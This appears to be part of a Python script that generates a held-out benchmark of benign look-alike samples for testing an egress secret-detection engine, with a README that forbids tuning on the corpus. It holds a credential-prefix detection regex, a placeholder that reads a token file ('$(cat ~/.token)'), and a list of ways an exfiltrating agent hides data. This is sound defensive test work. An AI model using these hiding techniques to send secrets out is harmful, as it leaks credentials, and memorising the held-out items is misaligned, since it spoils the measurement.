@neg('csrf-token', 9, {'body': 50, 'header': 50})
def _(wh):
    t = pick([rs(ALNUM, 64), b64(rb(32)), rs(HEXL, 40), rs(B64U, 86)])
    if wh == 'header':
        return hdr(pick(['X-CSRF-Token', 'X-XSRF-TOKEN', 'X-CSRFToken', 'RequestVerificationToken']), t)
    return {"where": "body", "content_type": "application/x-www-form-urlencoded",
            "text": urllib.parse.urlencode({pick(['csrfmiddlewaretoken', 'authenticity_token', '_token', '__RequestVerificationToken']): t,
                                            "title": pick(['Quarterly report', 'Bug in sidebar', 'Neue Anfrage']),
                                            "comment": pick(['Looks good to me.', 'Merci !', 'Bitte prüfen.'])})}


@neg('publishable-key', 9, {'body': 50, 'header': 20, 'url': 30})
def _(wh):
    k = pick(['pk_live_' + rs(ALNUM, 24), 'pk_test_51' + rs(ALNUM, 97),
              'pk.' + b64u(J({"u": pick(FIRST), "a": rs(LOALNUM, 25)}).replace(' ', '')) + '.' + rs(B64U, 22),
              'pk_live_' + b64(('clerk.%s$' % org_domain()).encode()).rstrip('=')])
    if wh == 'url':
        if k.startswith('pk.'):
            return url('https://api.mapbox.com/styles/v1/mapbox/streets-v12/tiles/1/0/0?access_token=%s' % q(k))
        return url('https://checkout.%s/pay?publishable_key=%s&amount=%d' % (org_domain(), q(k), R.randint(100, 9999)))
    if wh == 'header':
        return hdr('X-Publishable-Key', k)
    return body_case('<script>const stripe = Stripe("%s");</script>' % k if k.startswith('pk_') else
                     'mapboxgl.accessToken = "%s";' % k, pick([w_raw, w_ghissue, w_openai]))


@neg('ssh-public-key', 9, {'body': 80, 'header': 20})
def _(wh):
    if chance(0.5):
        k = 'ssh-ed25519 ' + b64(ssh_str('ssh-ed25519') + ssh_str(rb(32)))
    else:
        kk = get_rsa()
        k = 'ssh-rsa ' + b64(ssh_str('ssh-rsa') + ssh_str(i2b(kk['e'])) + ssh_str(b'\0' + i2b(kk['n'])))
    k += ' %s@%s' % (username(), pick(['laptop', 'mbp', 'ci']))
    if wh == 'header':
        return hdr('X-SSH-Public-Key', k)
    return body_case(J({"title": "work laptop", "key": k}) if chance(0.5) else '# authorized_keys\n' + k, w_raw)


@neg('public-key-pem', 8, {'body': 100})
def _(wh):
    s = wrap(b64(rsa_spki(get_rsa()) if chance(0.7) else bytes.fromhex('302a300506032b6570032100') + rb(32)), 64)
    return body_case('-----BEGIN PUBLIC KEY-----\n%s\n-----END PUBLIC KEY-----' % s)


@neg('x509-certificate', 8, {'body': 85, 'header': 15})
def _(wh):
    k = get_rsa()
    name = d_seq(tlv(0x31, d_seq(d_oid('2.5.4.3'), tlv(0x0c, ('%s.%s' % (pick(['api', 'www', 'mail']), org_domain())).encode()))))
    tbs = d_seq(tlv(0xa0, d_int(2)), d_int(R.getrandbits(120)), d_seq(d_oid('1.2.840.113549.1.1.11'), b'\x05\x00'), name,
                d_seq(tlv(0x17, b'260101000000Z'), tlv(0x17, b'270101000000Z')), name, rsa_spki(k))
    cert = d_seq(tbs, d_seq(d_oid('1.2.840.113549.1.1.11'), b'\x05\x00'), tlv(0x03, b'\0' + rb(len(i2b(k['n'])))))
    if wh == 'header':
        return hdr('X-Client-Cert', q(b64(cert)))
    return body_case('-----BEGIN CERTIFICATE-----\n%s\n-----END CERTIFICATE-----\n' % wrap(b64(cert), 64))


@neg('public-jwks', 8, {'body': 100})
def _(wh):
    keys = []
    for _ in range(R.randint(1, 3)):
        if chance(0.5):
            k = get_rsa()
            keys.append({"kty": "RSA", "use": "sig", "kid": rs(B64U, 27), "alg": "RS256", "n": b64u(i2b(k['n'])), "e": "AQAB"})
        else:
            keys.append({"kty": "EC", "crv": "P-256", "kid": uuid4(), "x": b64u(rb(32)), "y": b64u(rb(32)), "use": "sig"})
    return body_case(J({"keys": keys}), pick([w_raw, w_mcp, w_openai]))


@neg('crypto-public-address', 9, {'body': 60, 'url': 40})
def _(wh):
    a = pick([lambda: '0x' + rs(HEXL, 40), btc_addr, lambda: 'age1' + rs(BECH, 58), lambda: 'xpub' + rs(B58, 107),
              lambda: rs(B58, 44)])()
    if wh == 'url':
        k = R.randrange(3)
        a = ['0x' + rs(HEXL, 40), btc_addr(), rs(B58, 44)][k]
        return url(['https://etherscan.io/address/%s', 'https://mempool.space/address/%s', 'https://solscan.io/account/%s'][k] % a)
    return body_case(pick(['Send donations to %s', 'Recipient: %s', 'tx 0x%s from %%s' % rs(HEXL, 64)]) % a)


@neg('base64-image', 9, {'body': 100})
def _(wh):
    png = make_png(R.randint(4, 24), R.randint(4, 24), text=('Software', 'GIMP 2.10') if chance(0.3) else None)
    k = R.randrange(3)
    if k == 0:
        return {"where": "body", "content_type": "application/json", "text": J({"model": "gpt-4o", "messages": [{
            "role": "user", "content": [{"type": "text", "text": "What is in this image?"},
                                        {"type": "image_url", "image_url": {"url": "data:image/png;base64," + b64(png)}}]}]})}
    if k == 1:
        return {"where": "body", "content_type": "application/json", "text": J({"model": "claude-sonnet-4-5", "max_tokens": 512, "messages": [{
            "role": "user", "content": [{"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": b64(png)}},
                                        {"type": "text", "text": "Describe the chart."}]}]})}
    bnd = '----WebKitFormBoundary' + rs(ALNUM, 16)
    body = ('--%s\r\nContent-Disposition: form-data; name="file"; filename="screenshot.png"\r\nContent-Type: image/png\r\n\r\n' % bnd).encode() + png + (
        '\r\n--%s--\r\n' % bnd).encode()
    return bin_body('multipart/form-data; boundary=' + bnd, body)


@neg('hex-dump', 8, {'body': 100})
def _(wh):
    data = b'\x7fELF\x02\x01\x01\0' + b'\0' * 8 + b'\x02\0\x3e\0\x01\0\0\0' + rb(R.randint(64, 200))
    out = []
    for i in range(0, len(data), 16):
        ch = data[i:i + 16]
        out.append('%08x: %s  %s' % (i, ' '.join('%02x%02x' % tuple(ch[j:j + 2].ljust(2, b'\0')) for j in range(0, len(ch), 2)),
                                     ''.join(chr(c) if 32 <= c < 127 else '.' for c in ch)))
    return body_case('$ xxd ./bin/server | head\n' + '\n'.join(out))


@neg('encrypted-config-value', 9, {'body': 100})
def _(wh):
    k = R.randrange(4)
    if k == 0:
        s = '$ANSIBLE_VAULT;1.1;AES256\n' + wrap(rs(HEXL, 400), 80)
    elif k == 1:
        s = 'db_password: ENC[AES256_GCM,data:%s,iv:%s,tag:%s,type:str]\nsops:\n    age:\n        - recipient: age1%s\n' % (
            b64(rb(18)), b64(rb(32)), b64(rb(16)), rs(BECH, 58))
    elif k == 2:
        s = 'apiVersion: bitnami.com/v1alpha1\nkind: SealedSecret\nspec:\n  encryptedData:\n    password: Ag%s\n' % rs(B64A, 300)
    else:
        s = 'jasypt.encryptor.password=${JASYPT_PASSWORD}\nspring.datasource.password=ENC(%s)\n' % b64(rb(48))
    return body_case(s)


@neg('signed-url-no-credential', 8, {'url': 70, 'body': 30})
def _(wh):
    u = pick(['https://%s.cloudfront.net/videos/intro.mp4?Expires=%d&Signature=%s&Key-Pair-Id=K%s' % (
        rs(LOALNUM, 14), R.randint(1700000000, 1900000000), q(rs(B64U, 172)), rs(UPALNUM, 13)),
              'https://cdn.%s/dl/report.pdf?hash=%s&expires=%d' % (org_domain(), rs(HEXL, 32), R.randint(1700000000, 1900000000)),
              'https://images.%s/photo.jpg?w=800&s=%s' % (org_domain(), rs(HEXL, 32))])
    if wh == 'url':
        return url(u)
    return body_case('Download link (valid 24h): %s' % u)


@neg('placeholder-credential', 10, {'body': 60, 'header': 25, 'url': 15})
def _(wh):
    ph = pick(['<YOUR_API_KEY>', '********', 'REDACTED', '${API_KEY}', '{{ secrets.API_TOKEN }}', 'your-api-key-here',
               'xxxxxxxxxxxxxxxx', '<token>', '[REDACTED]', '$(cat ~/.token)', '%API_KEY%'])
    if wh == 'header':
        return hdr(pick(['Authorization', 'X-Api-Key']), ('Bearer ' if chance(0.5) else '') + ph)
    if wh == 'url':
        return url('https://api.%s/v1/search?q=shoes&api_key=%s' % (org_domain(), q(ph)))
    return body_case(pick(['OPENAI_API_KEY=%s\nSTRIPE_SECRET_KEY=%s', 'password: "%s"\nusername: "%s"',
                           'curl -H "Authorization: Bearer %s" https://api.example.com/v1/items # replace %s']) % (ph, pick(['********', '<YOUR_TOKEN>', 'REDACTED'])))


@neg('redacted-log', 8, {'body': 100})
def _(wh):
    return body_case('\n'.join([
        '%s INFO  auth ok user=%s token=%s' % (ts(), username(), pick(['***', '[redacted]', '<hidden>'])),
        '%s DEBUG request headers: {"authorization": "[FILTERED]", "cookie": "[FILTERED]"}' % ts(),
        '%s WARN  password=******** rejected for %s' % (ts(), email())]), pick([w_ndjson, w_log, w_raw, w_ghissue]))


@neg('format-documentation', 10, {'body': 100})
def _(wh):
    docs = ["GitHub classic personal access tokens start with `ghp_`; fine-grained ones use `github_pat_`. Rotate them regularly.",
            "Stripe keys: publishable keys begin with `pk_` and secret keys with `sk_`. Never ship the secret one to browsers.",
            "AWS access key IDs are 20 characters and usually begin with AKIA (long-term) or ASIA (temporary).",
            "Slack bot tokens have the `xoxb-` prefix, user tokens `xoxp-`. Store them in a vault, not in git.",
            "Les clés OpenAI commencent par « sk- » ; ne les committez jamais dans le dépôt.",
            "Ein GitLab-Token beginnt mit dem Präfix glpat-; es sollte nur in CI-Variablen liegen.",
            "Las claves de Google Cloud suelen empezar por AIza; restrínjalas por dominio.",
            "一般的なトークン形式: `xoxb-` (Slack), `ghp_` (GitHub), `sk-ant-` (Anthropic)。値は環境変数で渡してください。",
            "Regex used by our linter: `(ghp|gho|ghu|ghs|ghr)_[A-Za-z0-9]{36}` - matches GitHub tokens.",
            "A JWT consists of three base64url parts separated by dots: header.payload.signature."]
    return body_case(pick(docs), pick(WRAPPERS))


@neg('env-var-code', 10, {'body': 100})
def _(wh):
    snippets = ['import os\nclient = OpenAI(api_key=os.environ["OPENAI_API_KEY"])',
                'const stripe = require("stripe")(process.env.STRIPE_SECRET_KEY);',
                'token := os.Getenv("GITHUB_TOKEN")\nif token == "" {\n    log.Fatal("GITHUB_TOKEN not set")\n}',
                'env:\n  AWS_ACCESS_KEY_ID: ${{ secrets.AWS_ACCESS_KEY_ID }}\n  AWS_SECRET_ACCESS_KEY: ${{ secrets.AWS_SECRET_ACCESS_KEY }}',
                'password = getpass.getpass("DB password: ")\nconn = psycopg.connect(host=h, password=password)',
                'let key = std::env::var("ANTHROPIC_API_KEY").expect("missing key");',
                '- name: DB_PASSWORD\n  valueFrom:\n    secretKeyRef:\n      name: db-credentials\n      key: password',
                'headers = {"Authorization": f"Bearer {os.getenv(\'HF_TOKEN\')}"}',
                'val apiKey = BuildConfig.MAPS_API_KEY',
                '$env:AZURE_CLIENT_SECRET = (Get-Secret -Name AzureSp -AsPlainText)']
    return body_case(pick(snippets))


@neg('public-random-id', 10, {'url': 50, 'body': 30, 'header': 20})
def _(wh):
    if wh == 'url':
        return url(pick(['https://www.youtube.com/watch?v=%s&t=%ds' % (rs(B64U, 11), R.randint(1, 900)),
                         'https://ipfs.io/ipfs/bafybei%s' % rs(BECH.replace('0', 'a').replace('1', 'b'), 52),
                         'https://hub.docker.com/layers/library/nginx/1.27/images/sha256-%s' % rs(HEXL, 64),
                         'https://drive.google.com/file/d/1%s/view' % rs(B64U, 32),
                         'https://open.spotify.com/track/%s' % rs(ALNUM, 22),
                         'https://docs.google.com/spreadsheets/d/1%s/edit#gid=0' % rs(B64U, 43)]))
    if wh == 'header':
        return hdr(pick(['X-GitHub-Request-Id', 'CF-Ray', 'X-Amz-Cf-Id', 'X-Cache-Key']),
                   pick(['%s:%s:%s:%s:%s' % (rs(HEXU, 4), rs(HEXU, 6), rs(HEXU, 7), rs(HEXU, 7), rs(HEXU, 8)),
                         '%s-FRA' % rs(HEXL, 16), rs(B64U, 56)]))
    return body_case(J({"image": "ghcr.io/%s/api@sha256:%s" % (pick(ORGS), rs(HEXL, 64)),
                        "sentry_event_id": rs(HEXL, 32), "cid": "Qm" + rs(B58, 44)}))


@neg('minified-js', 8, {'body': 100})
def _(wh):
    ids = [rs(LO, 1) + rs(ALNUM, R.randint(0, 2)) for _ in range(30)]
    parts = []
    for _ in range(R.randint(10, 25)):
        a, b, c = pick(ids), pick(ids), pick(ids)
        parts.append(pick(['function %s(%s,%s){return %s.call(this,%s)||%s}' % (a, b, c, b, c, a),
                           'var %s=%s[%d]|%s;' % (a, b, R.randint(0, 99), c),
                           '%s.prototype.%s=function(){this.%s=!0};' % (a, b, c),
                           '"use strict";' if chance(0.1) else '%s=%s?%s:void 0;' % (a, b, c),
                           '%s["%s"]="%s";' % (a, rs(LO, 5), rs(ALNUM, R.randint(8, 24)))]))
    return {"where": "body", "content_type": "application/javascript", "text": '!function(){' + ''.join(parts) + '}();\n//# sourceMappingURL=app.%s.js.map' % rs(HEXL, 8)}


@neg('source-map', 8, {'body': 100})
def _(wh):
    vlq = ';'.join(','.join(rs(B64A.replace('+', '').replace('/', ''), R.randint(4, 8)) for _ in range(R.randint(3, 12))) for _ in range(R.randint(8, 30)))
    return {"where": "body", "content_type": "application/json",
            "text": J({"version": 3, "file": "app.min.js", "sources": ["webpack://app/./src/index.ts", "webpack://app/./src/api.ts"],
                       "names": ["fetchItems", "token", "apiKey", "cursor"], "mappings": vlq})}


@neg('lockfile', 9, {'body': 100})
def _(wh):
    k = R.randrange(4)
    if k == 0:
        s = J({"name": "app", "lockfileVersion": 3, "packages": {"node_modules/%s" % p: {
            "version": "%d.%d.%d" % (R.randint(0, 9), R.randint(0, 30), R.randint(0, 30)),
            "resolved": "https://registry.npmjs.org/%s/-/%s-1.2.3.tgz" % (p, p), "integrity": "sha512-" + b64(rb(64))}
            for p in R.sample(['lodash', 'react', 'chalk', 'debug', 'ms', 'semver', 'tslib', 'axios', 'zod'], 4)}})
    elif k == 1:
        s = '\n'.join('%s %s h1:%s\n%s %s/go.mod h1:%s' % (m, v, b64(rb(32)), m, v, b64(rb(32))) for m, v in
                      [('github.com/%s/%s' % (pick(ORGS), pick(['log', 'cli', 'sdk'])), 'v1.%d.%d' % (R.randint(0, 20), R.randint(0, 9)))
                       for _ in range(4)])
    elif k == 2:
        s = '\n'.join('[[package]]\nname = "%s"\nversion = "0.%d.%d"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "%s"\n' % (
            pick(['serde', 'tokio', 'rand', 'regex', 'anyhow']), R.randint(1, 9), R.randint(0, 20), rs(HEXL, 64)) for _ in range(4))
    else:
        s = '\n'.join('%s==%d.%d.%d \\\n    --hash=sha256:%s' % (pick(['requests', 'urllib3', 'idna', 'certifi']), R.randint(1, 3),
                                                               R.randint(0, 30), R.randint(0, 9), rs(HEXL, 64)) for _ in range(4))
    return body_case(s, pick([w_raw, w_ghissue, w_openai, w_multipart]))


@neg('prose-multilingual', 10, {'body': 100})
def _(wh):
    texts = ["If you forgot your password, click \"Reset password\" and we will email you a link.",
             "Wenn Sie Ihr Passwort vergessen haben, klicken Sie auf „Passwort zurücksetzen“.",
             "Si vous avez oublié votre mot de passe, cliquez sur « Mot de passe oublié ».",
             "El informe trimestral está listo; revisen las cifras antes del viernes.",
             "A reunião foi remarcada para quinta-feira às 15h.",
             "La nuova versione dell'app è disponibile sullo store.",
             "明日の定例会議は10時からです。資料は共有フォルダにあります。",
             "我们已经修复了登录页面的显示问题，请刷新后再试。",
             "Сборка прошла успешно, тесты зелёные, можно выкатывать.",
             "Proszę o akceptację wniosku urlopowego na przyszły tydzień.",
             "Toplantı notlarını ekte bulabilirsiniz.",
             "새 비밀번호는 8자 이상이어야 하며 숫자를 포함해야 합니다.",
             "Never share your API token with anyone, including support staff.",
             "De API-sleutel roteren we elk kwartaal; de nieuwe staat in de kluis.",
             "Kom ihåg att byta lösenord var tredje månad."]
    return body_case(' '.join(R.sample(texts, R.randint(1, 3))), pick([w_slack, w_teams, w_matrix, w_discord, w_openai, w_anthropic, w_gchat, w_jira]))


@neg('cdn-hostname', 10, {'hostname': 1})
def _(wh):
    return host(pick(['d%s.cloudfront.net' % rs(LOALNUM, 13), 'e%d.dscb.akamaiedge.net' % R.randint(1000, 99999),
                      '%s.global.ssl.fastly.net' % pick(ORGS), 'cdn.jsdelivr.net', '%s.azureedge.net' % rs(LOALNUM, 12),
                      'static-%s.%s.net' % (rs(HEXL, 8), pick(['akamaized', 'fbcdn'])), 'fonts.gstatic.com',
                      '%s.b-cdn.net' % pick(ORGS), 'ajax.googleapis.com', 'unpkg.com']))


@neg('cloud-service-hostname', 10, {'hostname': 1})
def _(wh):
    return host(pick(['%s.execute-api.%s.amazonaws.com' % (rs(LOALNUM, 10), pick(['us-east-1', 'eu-west-1'])),
                      '%s.dkr.ecr.eu-central-1.amazonaws.com' % rs(DI, 12),
                      'ec2-%d-%d-%d-%d.compute-1.amazonaws.com' % tuple(R.randint(1, 254) for _ in range(4)),
                      '%s.r2.cloudflarestorage.com' % rs(HEXL, 32), '%s.supabase.co' % rs(LO, 20),
                      '%s-%s-uc.a.run.app' % (pick(ORGS), rs(LOALNUM, 10)), '%s.blob.core.windows.net' % rs(LOALNUM, 16),
                      '%s-git-main-%s.vercel.app' % (pick(ORGS), pick(ORGS)),
                      '%s.%s.rds.amazonaws.com' % (pick(['prod', 'analytics']), rs(LOALNUM, 12)),
                      'k8s-default-%s-%s.elb.us-west-2.amazonaws.com' % (rs(HEXL, 10), rs(HEXL, 10)),
                      '%s.lambda-url.us-east-1.on.aws' % rs(LOALNUM, 32), '%s.firebaseapp.com' % pick(ORGS)]))


@neg('trace-context-header', 9, {'header': 100})
def _(wh):
    return hdr(*pick([('traceparent', '00-%s-%s-01' % (rs(HEXL, 32), rs(HEXL, 16))),
                      ('X-B3-TraceId', rs(HEXL, 32)), ('sentry-trace', '%s-%s-1' % (rs(HEXL, 32), rs(HEXL, 16))),
                      ('X-Cloud-Trace-Context', '%s/%d;o=1' % (rs(HEXL, 32), R.randint(10 ** 15, 10 ** 19))),
                      ('baggage', 'sentry-trace_id=%s,sentry-environment=production,sentry-public_key=%s' % (rs(HEXL, 32), rs(HEXL, 32)))]))


@neg('webhook-signature-header', 9, {'header': 100})
def _(wh):
    return hdr(*pick([('X-Hub-Signature-256', 'sha256=' + rs(HEXL, 64)),
                      ('Stripe-Signature', 't=%d,v1=%s' % (R.randint(1700000000, 1800000000), rs(HEXL, 64))),
                      ('X-Slack-Signature', 'v0=' + rs(HEXL, 64)), ('X-Shopify-Hmac-Sha256', b64(rb(32))),
                      ('X-Twilio-Signature', b64(rb(20))), ('Svix-Signature', 'v1,' + b64(rb(32)))]))


@neg('etag-cache-header', 8, {'header': 100})
def _(wh):
    return hdr(*pick([('If-None-Match', '"%s"' % rs(HEXL, 32)), ('If-None-Match', 'W/"%x-%s"' % (R.randint(100, 99999), rs(B64U, 27))),
                      ('If-Match', '"%s"' % rs(HEXL, 40)), ('Sec-WebSocket-Key', b64(rb(16))),
                      ('X-Content-Hash', rs(HEXL, 64))]))


@neg('oauth-public-parameters', 9, {'url': 80, 'body': 20})
def _(wh):
    cid = '%s-%s.apps.googleusercontent.com' % (rs(DI, 12), rs(LOALNUM, 32))
    u = 'https://accounts.google.com/o/oauth2/v2/auth?client_id=%s&redirect_uri=%s&response_type=code&scope=%s&state=%s&code_challenge=%s&code_challenge_method=S256&nonce=%s' % (
        q(cid), q('https://app.%s/callback' % org_domain()), q('openid email'), rs(B64U, 32), b64u(rb(32)), rs(HEXL, 32))
    if wh == 'url':
        return url(u if chance(0.6) else 'https://github.com/login/oauth/authorize?client_id=Iv1.%s&state=%s&scope=repo' % (rs(HEXL, 16), rs(B64U, 24)))
    return body_case('Open this link to sign in: ' + u)


@neg('compressed-benign-body', 10, {'body': 100})
def _(wh):
    data = pick([lambda: J({"events": [{"type": "page_view", "path": "/docs/%s" % rs(LO, 6), "ts": ts()} for _ in range(R.randint(3, 20))]}),
                 lambda: '\n'.join(J({"ts": ts(), "level": "info", "msg": "GET /health 200", "dur_ms": R.randint(1, 90)}) for _ in range(20)),
                 lambda: 'id,sku,price\n' + '\n'.join('%d,%s,%d.%02d' % (i, rs(UPALNUM, 8), R.randint(1, 999), R.randint(0, 99)) for i in range(30))])()
    return bin_body(pick(['application/json', 'application/x-ndjson', 'text/csv']), data.encode(), pick(['gzip', 'deflate']))


@neg('base64-benign-document', 9, {'body': 100})
def _(wh):
    doc = pick(['# %s\n\nA small CLI for converting CSV files to Parquet.\n\n## Install\n\n    pip install %s\n' % (pick(ORGS), pick(ORGS)),
                'Sehr geehrte Damen und Herren,\nanbei die Rechnung für den Monat März.\nMit freundlichen Grüßen',
                'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  replicas: 3\n',
                '<html><body><h1>Hello</h1><p>Bienvenue sur notre site.</p></body></html>'])
    if chance(0.5):
        return {"where": "body", "content_type": "application/json",
                "text": J({"message": "docs: update README", "content": b64(doc), "sha": rs(HEXL, 40), "branch": "main"})}
    return {"where": "body", "content_type": "application/json", "text": J({"name": "readme.md", "encoding": "base64", "data": b64(gz(doc.encode()))})}


@neg('password-ui-strings', 8, {'body': 100})
def _(wh):
    return body_case(J({"login.password": pick(["Password", "Passwort", "Mot de passe", "Contraseña", "パスワード"]),
                        "login.forgot": pick(["Forgot password?", "Passwort vergessen?", "Mot de passe oublié ?"]),
                        "password.rules": "Min. 12 chars", "password.placeholder": "••••••••"}), pick([w_raw, w_mcp, w_ghissue]))


@neg('non-luhn-number', 9, {'body': 70, 'url': 30})
def _(wh):
    while True:
        n = rs(DI, 16)
        if not luhn_ok(n) and n[0] in '3456':
            break
    if wh == 'url':
        return url('https://track.%s/order/%s?ref=email' % (org_domain(), n))
    return body_case(pick(['Order number: %s' % n, 'Tracking: 1Z%s%s' % (rs(UPALNUM, 6), rs(DI, 10)),
                           'Invoice %s, ISBN 978%s' % (n, rs(DI, 10)), 'Call us at +49 30 %s' % rs(DI, 8), J({"order_id": n})]))


@neg('llm-request-benign', 10, {'body': 100})
def _(wh):
    s = pick(['def fib(n):\n    return n if n < 2 else fib(n-1) + fib(n-2)', 'SELECT id, created_at FROM orders WHERE status = \'paid\' LIMIT 50;',
              'Error: ENOENT: no such file or directory, open \'/srv/app/config.json\'', 'fatal: refusing to merge unrelated histories',
              'kubectl rollout status deploy/web -n prod\nWaiting for deployment "web" rollout to finish: 2 of 3 updated replicas are available...'])
    return body_case(s, pick([w_openai, w_anthropic, w_toolcall, w_mcp]))


@neg('hex-and-css-constants', 8, {'body': 100})
def _(wh):
    return body_case(':root{%s}' % ''.join('--c-%s:#%s;' % (rs(LO, 4), rs(HEXL, 6)) for _ in range(12)) if chance(0.5) else
                     'const SBOX = [%s];' % ', '.join('0x%02x' % R.randrange(256) for _ in range(64)), pick([w_raw, w_openai]))


@neg('k8s-manifest-benign', 8, {'body': 100})
def _(wh):
    return body_case('apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: web-config\n  uid: %s\n  resourceVersion: "%d"\ndata:\n  LOG_LEVEL: info\n  FEATURE_FLAGS: "%s"\n  CACHE_TTL: "300"\n' % (
        uuid4(), R.randint(10 ** 5, 10 ** 8), rs(HEXL, 24)), pick([w_raw, w_yaml, w_anthropic]))


@neg('graphql-benign', 8, {'body': 100})
def _(wh):
    return {"where": "body", "content_type": "application/json",
            "text": J({"query": "query($first:Int,$after:String){repository(owner:\"%s\",name:\"api\"){issues(first:$first,after:$after){nodes{id title}}}}" % pick(ORGS),
                       "variables": {"first": 50, "after": "Y3Vyc29yOnYyOpHO" + rs(B64A, 6)}})}


@neg('benign-upload', 8, {'body': 100})
def _(wh):
    return body_case('sku,name,qty,price\n' + '\n'.join('%s,%s,%d,%d.%02d' % (rs(UPALNUM, 10), pick(['Widget', 'Kabel', 'Câble', 'Tornillo']),
                                                                              R.randint(1, 99), R.randint(1, 400), R.randint(0, 99)) for _ in range(12)), w_multipart)


@neg('benign-preference-cookies', 8, {'header': 100})
def _(wh):
    return hdr('Cookie', pick(['theme=dark; lang=de-DE; consent=necessary%2Canalytics', 'cookieconsent_status=dismiss; tz=Europe%2FBerlin',
                               'sidebar_collapsed=false; currency=EUR; recently_viewed=%s' % '%2C'.join(str(R.randint(1000, 99999)) for _ in range(4)),
                               'ab_test_bucket=%d; locale=fr_FR' % R.randint(0, 99)]))


@neg('benign-ndjson-logs', 8, {'body': 100})
def _(wh):
    return {"where": "body", "content_type": "application/x-ndjson", "text": ''.join(
        J({"ts": ts(), "req_id": rs(HEXL, 16), "span": rs(HEXL, 16), "path": pick(['/api/v1/items', '/healthz', '/login']),
           "status": pick([200, 201, 304, 401, 404]), "ua_hash": rs(HEXL, 40)}) + '\n' for _ in range(R.randint(4, 12)))}


@neg('sri-and-integrity-urls', 6, {'url': 100})
def _(wh):
    return url(pick(['https://registry.npmjs.org/%s/-/%s-%d.%d.%d.tgz' % ((pick(['react', 'zod', 'vite']),) * 2 + (R.randint(1, 9), R.randint(0, 20), R.randint(0, 9))),
                     'https://files.pythonhosted.org/packages/%s/%s/%s/requests-2.32.3-py3-none-any.whl#sha256=%s' % (rs(HEXL, 2), rs(HEXL, 2), rs(HEXL, 60), rs(HEXL, 64)),
                     'https://objects.githubusercontent.com/github-production-release-asset-2e65be/%d/%s' % (R.randint(10 ** 7, 10 ** 9), uuid4())]))


@neg('search-query-url', 6, {'url': 100})
def _(wh):
    return url('https://www.%s/search?q=%s&hl=%s' % (pick(['google.com', 'bing.com', 'duckduckgo.com']),
                                                      q(pick(['how to rotate github token', 'what is an IBAN', 'wie ändere ich mein passwort',
                                                              'jwt vs session cookie', 'base64 decode online'])), pick(['en', 'de', 'fr'])))


# ---------------------------------------------------------------- guard for negatives
PREFIX_RE = re.compile(r'(?<![A-Za-z0-9])(sk-[A-Za-z0-9_-]{16}|sk_live_[A-Za-z0-9]{8}|rk_live_|gh[pousr]_[A-Za-z0-9]{20}|github_pat_|'
                       r'glpat-[A-Za-z0-9_-]{10}|xox[bpaoe]-[0-9]|AKIA[A-Z2-7]{16}|ASIA[A-Z2-7]{16}|AIza[A-Za-z0-9_-]{30}|hf_[A-Za-z]{20}|'
                       r'npm_[A-Za-z0-9]{20}|dop_v1_|SG\.[A-Za-z0-9_-]{20}|xai-[A-Za-z0-9]{20}|gsk_[A-Za-z0-9]{20}|'
                       r'r8_[A-Za-z0-9]{20}|pplx-[A-Za-z0-9]{20}|glsa_|hvs\.|dapi[0-9a-f]{20}|shp(at|ss|ca|pa)_|AGE-SECRET)')


def case_text(c):
    if 'text' in c:
        return c['text']
    raw = base64.b64decode(c['base64'])
    try:
        if c.get('content_encoding') == 'gzip':
            raw = gzip.decompress(raw)
        elif c.get('content_encoding') == 'deflate':
            raw = zlib.decompress(raw)
    except Exception:
        pass
    return raw.decode('latin-1')


# ---------------------------------------------------------------- driver
def choose_where(weights):
    ks = list(weights)
    return R.choices(ks, weights=[weights[k] for k in ks])[0]


SEEN = set()


def build(specs, label):
    out = []
    for cls, count, fn, wheres in specs:
        for _ in range(count):
            for attempt in range(20):
                wh = choose_where(wheres)
                c = fn(wh)
                if label == 'negative' and PREFIX_RE.search(case_text(c)):
                    continue
                key = c.get('text') or c.get('base64')
                if key in SEEN:
                    continue
                SEEN.add(key)
                break
            else:
                raise RuntimeError('could not generate clean negative for ' + cls)
            assert c['where'] in ('body', 'url', 'header', 'hostname'), (cls, c)
            rec = {"label": label, "expect": cls, "where": c['where']}
            if c['where'] == 'body' and c.get('content_type'):
                rec['content_type'] = c['content_type']
            if 'content_encoding' in c:
                rec['content_encoding'] = c['content_encoding']
            if 'text' in c:
                rec['text'] = c['text']
            else:
                rec['base64'] = c['base64']
            out.append(rec)
    R.shuffle(out)
    tag = 'pos' if label == 'positive' else 'neg'
    final = []
    for i, rec in enumerate(out, 1):
        final.append({"id": 't14-%s-%04d' % (tag, i), **rec})
    return final


def dump(path, recs):
    with open(path, 'w', encoding='utf-8', newline='\n') as f:
        for r_ in recs:
            f.write(json.dumps(r_, ensure_ascii=False, separators=(', ', ': ')) + '\n')


def sha(path):
    with open(path, 'rb') as f:
        return hashlib.sha256(f.read()).hexdigest()


def table(counter, head):
    rows = ['| %s | count |' % head, '|---|---:|']
    for k in sorted(counter):
        rows.append('| `%s` | %d |' % (k, counter[k]))
    return '\n'.join(rows)


def readme(pos_, neg_):
    from collections import Counter
    wp, wn = Counter(r_['where'] for r_ in pos_), Counter(r_['where'] for r_ in neg_)
    wt = ['| where | positives | negatives | total |', '|---|---:|---:|---:|']
    for w in ['body', 'url', 'header', 'hostname']:
        wt.append('| `%s` | %d | %d | %d |' % (w, wp[w], wn[w], wp[w] + wn[w]))
    cp, cn = Counter(r_['expect'] for r_ in pos_), Counter(r_['expect'] for r_ in neg_)
    return '''**This corpus is HELD OUT.** It is meant for a single, final measurement of the egress secret-detection engine. Never tune rules, thresholds or allow-lists on it, never look at individual misses in order to fix them, and report results by class/category only.

# t14 held-out egress corpus

## How it was written

The generator was written without any access to the engine: not its source, rules, tests, other corpora or
history. Everything comes from public knowledge of vendor credential formats (documented prefixes, alphabets and
lengths), of techniques an exfiltrating agent uses to hide data (encodings, compression, splitting, DNS labels,
header names/values, URL paths and queries, markdown images/links, alt text, PNG text chunks, char-code arrays),
and of benign traffic that looks similar (hashes, ids, cursors, public keys, certificates, encrypted config values,
lockfiles, minified code, prose in many languages). All key material is random, drawn from one seeded
`random.Random`; nothing is real. Some vendor values are deliberately fake-looking (low entropy, wrong checksum,
slightly off length): by project policy an unmistakable vendor prefix followed by enough key characters is a
secret, so those are positives. Private keys never use PEM private-key armour; they appear as DER base64/hex,
JWK, XML, OpenSSH/PuTTY bodies or byte arrays. Negative placeholders never carry a vendor prefix, and every
negative is re-drawn if it accidentally matches a vendor-prefix pattern.

## Regenerate

    nice python3 generate.py            # rewrites positives.jsonl, negatives.jsonl, README.md
